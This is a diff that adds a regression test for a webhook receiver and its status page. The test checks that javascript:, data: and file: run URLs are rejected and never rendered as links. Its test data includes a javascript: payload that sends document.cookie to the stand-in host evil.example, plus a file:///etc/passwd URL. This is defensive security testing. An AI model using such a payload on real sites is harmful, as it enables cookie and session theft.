@@ -1,0 +1,124 @@
+import { Hono } from 'hono';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { createMemoryBus, type MemoryBus } from '../../src/bus/memory.js';
+import type { ConsumedRecord } from '../../src/bus/port.js';
+import { loadConfig } from '../../src/config/load.js';
+import { RunSchema } from '../../src/events/cicd.js';
+import { createLogger } from '../../src/log.js';
+import { createMetrics } from '../../src/metrics.js';
+import { startReceiver, type ReceiverRuntime } from '../../src/runtime/receiver.js';
+import { createStatusRoutes } from '../../src/web/routes.js';
+import { StatusStore } from '../../src/web/status-store.js';
+import { signedRequest } from '../fixtures/standard-webhook-request.js';
+import { SECRETS } from '../support/stack.js';
+
+// Issue 15 hole 6: `run.url: javascript:…` was accepted into the event and rendered as a link on
+// the status page. Event URLs are http(s) only, and the page links only http(s) URLs.
+
+const EVIL = 'javascript:fetch(`//evil.example/?c=${document.cookie}`)';
+
+describe('a javascript: run URL in a signed generic delivery', () => {
+  let bus: MemoryBus;
+  let receiver: ReceiverRuntime;
+  const cicd: ConsumedRecord[] = [];
+  beforeAll(async () => {
+    const config = loadConfig({
+      env: {},
+      overrides: (raw) =>
+        Object.assign(raw, {
+          bus: 'memory',
+          server: { port: 0, host: '127.0.0.1' },
+          sources: { generic: { argo: { secrets: [SECRETS.whsec] } } },
+        }),
+    });
+    bus = createMemoryBus();
+    receiver = await startReceiver({
+      config,
+      bus,
+      log: createLogger({ level: 'silent' }),
+      metrics: createMetrics({ defaults: false }),
+    });
+    await bus.subscribe({
+      groupId: 't-cicd',
+      topics: [config.kafka.topics.cicd],
+      fromBeginning: true,
+      handler: async (r) => void cicd.push(r),
+    });
+  });
+  afterAll(async () => {
+    await receiver?.close();
+    await bus?.close();
+  });
+
+  it('never reaches an event as a URL', async () => {
+    const body = {
+      type: 'deployment.requested',
+      timestamp: new Date().toISOString(),
+      data: {
+        project: 'acme/web',
+        environment: 'production',
+        deploymentId: 'd-js-1',
+        run: { id: 'r1', url: EVIL },
+      },
+    };
+    const request = signedRequest(body, { secret: SECRETS.whsec, id: 'msg_js_1', at: new Date() });
+    const res = await fetch(`${receiver.url}/hooks/generic/argo`, {
+      method: 'POST',
+      headers: request.headers,
+      body: request.body,
+    });
+    await res.arrayBuffer();
+    expect(res.status).toBeLessThan(500);
+    await new Promise((r) => setTimeout(r, 50));
+    const events = cicd.map(
+      (r) => JSON.parse(r.value!.toString()) as { type: string; data: unknown },
+    );
+    const deployments = events.filter((e) => e.type.startsWith('deployment'));
+    for (const e of deployments) expect(JSON.stringify(e.data)).not.toContain('javascript:');
+  });
+
+  it('is refused by the event schema, as are data: and file: URLs', () => {
+    for (const url of [EVIL, 'data:text/html,<script>1</script>', 'file:///etc/passwd'])
+      expect(RunSchema.safeParse({ id: 'r1', url }).success, url).toBe(false);
+    expect(RunSchema.safeParse({ id: 'r1', url: 'https://ci.example/run/1' }).success).toBe(true);
+  });
+});
+
+describe('the status page given a javascript: run URL by a producer that skipped the schema', () => {
+  it('renders the deployment as text, not as a link', async () => {
+    const store = new StatusStore();
+    store.applyGateState('CHG9', {
+      number: 'CHG9',
+      gates: {
+        g1: {
+          gate: {
+            gateId: 'g1',
+            changeNumber: 'CHG9',
+            provider: 'generic',
+            project: 'acme/web',
+            environment: 'production',
+            registeredAt: '2026-11-25T10:00:00.000Z',
+            runUrl: EVIL,
+          },
+          status: 'waiting',
+          reason: 'awaiting approval',
+        },
+      },
+      touchedAt: 0,
+    });
+    const routes = createStatusRoutes({
+      source: {
+        snapshot: () => store.snapshot(),
+        onChange: (l) => store.onChange(l),
+        close: async () => undefined,
+      },
+      log: createLogger({ level: 'silent' }),
+    });
+    const app = new Hono().route('/status', routes.app);
+    const page = await (await app.request('/status')).text();
+    await routes.close();
+    expect(page).toContain('acme/web');
+    expect(page).not.toMatch(/href="javascript:/i);
+    expect(page).not.toContain('javascript:fetch');
+  });
+});
